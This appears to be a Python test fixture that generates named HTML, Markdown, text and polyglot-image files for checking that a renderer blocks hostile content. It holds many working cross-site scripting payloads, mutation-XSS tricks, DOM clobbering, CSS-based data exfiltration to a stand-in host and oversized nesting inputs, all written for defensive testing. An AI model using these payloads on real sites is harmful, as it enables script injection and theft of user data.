"""Documents that try to run, load, style, ask or lead away; each says so under its own name.

``NAME`` in a document stands for the name of its row. A script that runs sets ``window.hostile``;
a load goes to another host, or to a path of our own that nothing else asks for.
"""

from tests.support.documents import picture

HOST = "https://hostile.example"
PATH = "/hostile"
_RUN = "window.hostile='NAME'"
_AWAY = f"{HOST}/NAME"
_HERE = f"{PATH}/NAME"

_HTML = {
    "script": f"<script>{_RUN};alert(1)</script>",
    "script-src": f"<script src={_AWAY}.js></script><script src={_HERE}.js></script>",
    "script-module": f"<script type=module>import '{_AWAY}.js'</script>",
    "script-broken": f"<scr<script>ipt>{_RUN}</scr</script>ipt><SCRIPT/XSS>{_RUN}</SCRIPT>",
    "script-in-title": f"<title>x</title><title><script>{_RUN}</script></title>",
    "onerror": f'<img src="{_HERE}.png" onerror="{_RUN}">',
    "onload-body": f'<body onload="{_RUN}" onpageshow="{_RUN}" onhashchange="{_RUN}">',
    "onfocus": f'<p tabindex=1 autofocus onfocus="{_RUN}" contenteditable>x</p>',
    "ontoggle": f'<details open ontoggle="{_RUN}"><summary>s</summary>d</details>',
    "onanimation": "<style>@keyframes x{}</style>"
    f'<b style="animation-name:x" onanimationstart="{_RUN}">x</b>',
    "onpointer": f'<p onmouseover="{_RUN}" onclick="{_RUN}" onkeydown="{_RUN}">move over me</p>',
    "onbegin": f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
    "popover": f'<button popovertarget=x>y</button><p popover id=x onbeforetoggle="{_RUN}">p</p>',
    "javascript-link": f'<a href="javascript:{_RUN}" id=go autofocus>go</a>',
    "javascript-entities": f'<a href="&#106;avascript&colon;{_RUN}">go</a>'
    f'<a href=" java\tscript:{_RUN}">go</a><a href="JaVaScRiPt:{_RUN}">go</a>',
    "data-link": f"<a href='data:text/html,<script>{_RUN}</script>'>go</a>",
    "vbscript-link": '<a href="vbscript:msgbox(1)">go</a>',
    "ping": f'<a href="{_HERE}" ping="{_AWAY}" target=_top download>go</a>',
    "iframe": f'<iframe src="{_AWAY}"></iframe><iframe src="{_HERE}"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>top.{_RUN.removeprefix("window.")}</script>">',
    "iframe-javascript": f'<iframe src="javascript:top.{_RUN.removeprefix("window.")}"></iframe>',
    "frameset": f'<frameset><frame src="{_AWAY}"></frameset>',
    "object": f'<object data="{_AWAY}.svg" type="image/svg+xml"><param name=x></object>',
    "embed": f'<embed src="{_AWAY}.swf"><embed src="{_HERE}.html">',
    "applet": f'<applet code="{_AWAY}.class" archive="{_AWAY}.jar"></applet>',
    "base": f'<base href="{HOST}/NAME/"><img src="relative.png"><a href="x">y</a>',
    "meta-refresh": f'<meta http-equiv=refresh content="0;url={_AWAY}">',
    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">"
    f'<meta name=referrer content=unsafe-url><img src="{_AWAY}.png">',
    "link-style": f'<link rel=stylesheet href="{_AWAY}.css"><link rel=stylesheet href={_HERE}.css>',
    "link-prefetch": f'<link rel=prefetch href="{_AWAY}"><link rel=preload as=image href={_HERE}>'
    f'<link rel=dns-prefetch href="{HOST}"><link rel=preconnect href="{HOST}">'
    f'<link rel=modulepreload href="{_AWAY}.js"><link rel=icon href="{_AWAY}.ico">',
    "style-import": f'<style>@import url("{_AWAY}.css"); @import "{_HERE}.css";</style>',
    "style-page": "<style>*{display:none!important} body,:host,.card{background:red!important;"
    "color:red!important;font-size:99px!important}</style>",
    "style-exfiltration": f'<style>input[value^="a"],kbd{{background:url({_AWAY}.png)}}'
    f"@font-face{{font-family:x;src:url({_AWAY}.woff)}} *{{font-family:x!important}}</style>",
    "style-attribute": '<div style="position:fixed;inset:0;z-index:99999;background:url'
    f'({_AWAY}.png)">over everything</div><p style=\'background:url("{_HERE}.png")\'>x</p>',
    "background": f'<table background="{_AWAY}.png"><tr><td background="{_HERE}.png">x</table>'
    f'<body background="{_AWAY}.png">',
    "class-and-id": '<p class="card" id="guidelines" data-part="card" data-command="grade" '
    'data-grade="3" part="x" slot="x" name="cookie" hidden>named like ours</p>',
    "clobbering": "<form id=document name=querySelector><input name=attributes id=location>"
    "<img name=getElementById><a id=hostile href=x></a></form>",
    "form": f'<form action="{_AWAY}" method=post id=f><input name=a value=b autofocus>'
    f"<button formaction={_HERE}>send</button></form><input type=image form=f src={_AWAY}.png>",
    "autofocus": "<textarea autofocus>type</textarea><select autofocus><option>o</select>"
    "<input type=text autofocus accesskey=1><p contenteditable autofocus>write</p>",
    "dialog": "<dialog open>over</dialog><div role=dialog aria-modal=true>covered</div>",
    "svg-script": f"<svg><script>{_RUN}</script><script href={_AWAY}.js></script></svg>",
    "svg-onload": f'<svg onload="{_RUN}"><a xlink:href="javascript:{_RUN}">'
    "<text>x</text></a></svg>",
    "svg-use": f'<svg><use href="{_AWAY}.svg#x"/><image href="{_AWAY}.png"/>'
    f'<foreignObject><iframe src="{_AWAY}"></iframe></foreignObject></svg>',
    "svg-style-mutation": f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    "math-mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    "math-href": f'<math href="javascript:{_RUN}"><mi xlink:href="javascript:{_RUN}">x</mi></math>',
    "form-mutation": "<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src onerror={_RUN}>",
    "noscript-mutation": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    "template": f"<template><script>{_RUN}</script><img src={_AWAY}.png></template>"
    f"<template shadowrootmode=open><img src={_AWAY}.png onerror={_RUN}></template>",
    "comment-open": f"text<!-- <img src={_AWAY}.png> --!><img src={_HERE}.png onerror={_RUN}><!-- ",
    "comment-conditional": f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]--><!--><p>x-->",
    "cdata": f"<![CDATA[<script>{_RUN}</script>]]><svg><![CDATA[><img src=x onerror={_RUN}>]]>",
    "plaintext": f"<plaintext><img src={_AWAY}.png onerror={_RUN}>",
    "xmp": f"<xmp><p title='</xmp><img src={_HERE}.png onerror={_RUN}>'></xmp>",
    "textarea-mutation": f"<textarea><img title='</textarea><img src=x onerror={_RUN}>'>",
    "select-mutation": "<select><option><style></option></select>"
    f"<img src=x onerror={_RUN}></style>",
    "table-mutation": "<table><td><svg><desc><table>"
    f"<img src=x onerror={_RUN}></table></desc></svg>",
    "attribute-mutation": f"<p title='`onmouseover={_RUN}'><img alt=\"``onerror={_RUN}\" src=x>",
    "slash-attributes": f'<img/src="{_HERE}.png"/onerror="{_RUN}"/><p/onclick={_RUN}>x',
    "srcset": f'<img srcset="{_AWAY}.png 1x, {_HERE}.png 2x" src="{_AWAY}.gif" loading=eager>',
    "picture-source": f'<picture><source srcset="{_AWAY}.webp"><img src="{_HERE}.png"></picture>',
    "video": f'<video src="{_AWAY}.mp4" poster="{_AWAY}.png" autoplay><track src={_AWAY}.vtt '
    f'default></video><audio src="{_HERE}.ogg" autoplay onerror="{_RUN}"></audio>',
    "input-image": f'<input type=image src="{_AWAY}.png" onerror="{_RUN}">',
    "data-picture-svg": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    f"onload='{_RUN}'><image href='{_AWAY}.png'/></svg>\">",
    "data-picture-html": f'<img src="data:text/html;base64,PGgxPng8L2gxPg==" onerror="{_RUN}">',
    "protocol-relative": '<img src="//hostile.example/NAME.png"><a href="//hostile.example">x</a>',
    "custom-element": f'<x-card is="judgepool"><slot name=x onslotchange="{_RUN}"></slot></x-card>',
    "marquee": f'<marquee onstart="{_RUN}" loop=1>x</marquee><bgsound src="{_AWAY}.wav">',
    "nested": "<div>" * 3_000 + f"<img src={_AWAY}.png onerror={_RUN}>",
    "nested-formatting": "<b><i><u><s>" * 2_000 + "<p>x" * 200 + f"<img src={_AWAY}.png>",
    "many-attributes": f"<p {'a=1 ' * 5_000} onclick={_RUN}>x</p>",
    "turning-title": "<title>\u202etxt.exe\u2066 gnp\u202d</title><p>turned</p>",
    "manifest": f'<html manifest="{_AWAY}.appcache"><head profile="{_AWAY}"><p>x',
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":'
    f'["{_HERE}"]}}]}}</script>',
    "import-map": f'<script type=importmap>{{"imports":{{"x":"{_AWAY}.js"}}}}</script>',
    "body-late": f"<p>a</p></body></html><script>{_RUN}</script><img src={_AWAY}.png>",
}

_MARKDOWN = {
    "md-picture": f"![far]({_AWAY}.png) ![here]({_HERE}.png) ![r][r]\n\n[r]: {_AWAY}.gif",
    "md-html": f"<img src={_AWAY}.png onerror={_RUN}>\n\n<script>{_RUN}</script>\n\n"
    f"text <iframe src={_HERE}></iframe>",
    "md-javascript": f"[go](javascript:{_RUN}) [go](JaVaScRiPt:{_RUN}) <javascript:{_RUN}> "
    f"[go](data:text/html,<script>{_RUN}</script>) [go](&#106;avascript:{_RUN})",
    "md-attribute": f'[a](http://x" onclick="{_RUN}) ![a" onerror="{_RUN}]({_HERE}.png "t")',
    "md-code": f'```"><script>{_RUN}</script>\n</code></pre><img src={_AWAY}.png>\n```',
    "md-autolink": f"<{_AWAY}> {_AWAY} www.hostile.example",
}

_TEXT = {
    "text-like-html": f"<html><script>{_RUN}</script><img src={_AWAY}.png onerror={_RUN}>",
    "text-entities": f"&lt;img src={_AWAY}.png&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
}


def _polyglot(format: str) -> bytes:  # noqa: A002
    return picture(format, (40, 30)) + f"<html><script>{_RUN}</script><img src={_AWAY}>".encode()


def _named(table: dict[str, str], ending: str) -> dict[str, str | bytes]:
    return {
        f"{name}{ending}": content.replace("NAME", name) + f"\n\nThe end of {name}.\n"
        for name, content in table.items()
    }


DOCUMENTS: dict[str, str | bytes] = {
    **_named(_HTML, ".html"),
    **_named(_MARKDOWN, ".md"),
    **_named(_TEXT, ".txt"),
    "polyglot-gif.gif": _polyglot("GIF"),
    "polyglot-png.png": _polyglot("PNG"),
    "polyglot-jpeg.jpg": _polyglot("JPEG"),
}
"""File name and content of every hostile document."""
